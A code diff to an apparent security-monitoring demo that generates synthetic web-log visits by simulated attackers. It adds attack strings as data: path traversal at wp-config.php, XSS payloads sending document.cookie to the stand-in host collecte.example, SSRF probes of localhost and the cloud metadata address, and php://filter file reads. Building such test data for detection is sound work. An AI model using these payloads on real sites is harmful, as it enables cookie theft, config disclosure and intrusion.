@@ -11,7 +11,7 @@ from typing import Final, NamedTuple
 
 from vigie.demo.month import DONATIONS, PETITION, SITE, Month
 from vigie.demo.request import Request
-from vigie.demo.runs import Scene, Shot, ask
+from vigie.demo.runs import Scene, Shot, ask, get
 from vigie.demo.site import BROWSERS, STYLE, pages_at, size_of
 
 SQL, CLIMB, SCRIPT, INCLUDE, FORGE = (
@@ -52,7 +52,8 @@ def _document(visit: int) -> tuple[tuple[str, int, int, str], ...]:
     deeper = "../" * (2 + visit)
     return (
         ("programme-2017.pdf", 200, 880_120, ""), (f"{deeper}wp-config.php", 403, 146, CLIMB), (f"pdf/{deeper}wp-config.php", 403, 146, CLIMB),
-        (f"pdf/{deeper}wp-config.php%00.pdf", 404, 1254, CLIMB),
+        (f"pdf/{deeper}wp-config.php%00.pdf", 404, 1254, CLIMB), (f"pdf/2017/{deeper}wp-config.php", 403, 146, CLIMB),
+        (f"pdf/2017/../{deeper}wp-config.php", 404, 1254, CLIMB),
     )  # fmt: skip
 
 
@@ -61,13 +62,18 @@ def _press(visit: int) -> tuple[tuple[str, int, int, str], ...]:
         ("communiqué", 200, 9_310, ""), (f"communiqué\"><svg onload=alert({visit})>", 200, 9_377, SCRIPT),
         ("communiqué\"><img src=x onerror=\"fetch('//collecte.example/'+document.cookie)\">", 200, 9_420, SCRIPT),
         ("communiqué\"><script src=//collecte.example/p.js></script>", 403, 146, SCRIPT),
+        ("communiqué\"><svg onload=\"fetch('//collecte.example/'+document.cookie)\">", 200, 9_418, SCRIPT),
+        (f"communiqué\"><svg onload=\"fetch('//collecte.example/{visit}?'+document.cookie)\">", 200, 9_420, SCRIPT),
     )  # fmt: skip
 
 
 def _receipt(visit: int) -> tuple[tuple[str, int, int, str], ...]:
     return (
         ("modele-2017", 200, 4_011, ""), (f"http://127.0.0.1:{8000 + visit}/", 504, 182, FORGE), ("http://127.0.0.1:3306/", 200, 95, FORGE),
+        ("http://127.0.0.1:3306/recus", 200, 95, FORGE), ("http://169.254.169.254/latest/meta-data/", 200, 310, FORGE),
         ("http://169.254.169.254/latest/meta-data/iam/", 404, 345, FORGE), ("php://filter/convert.base64-encode/resource=recu", 200, 5_602, INCLUDE),
+        ("php://filter/convert.base64-encode/resource=../recu", 500, 512, INCLUDE),
+        ("php://filter/convert.base64-encode/resource=../config/recu", 200, 1_120, INCLUDE),
         ("php://filter/convert.base64-encode/resource=../config/paiement", 200, 2_944, INCLUDE),
     )  # fmt: skip
 
@@ -109,6 +115,8 @@ def visits(person: Person, month: Month) -> list[tuple[int, list[Shot]]]:
             )
             for text, status, size, family in person.steps(number)
         ]
+        # they open the page as a visitor does before they try anything
+        shots.insert(0, Shot(0, get(person.path), 200, size_of(person.path), (), agent, f"https://{person.site}/"))
         found.append((month.midnight(day) + person.hour * 3600 + dice.randrange(2400), shots))
     return found
 
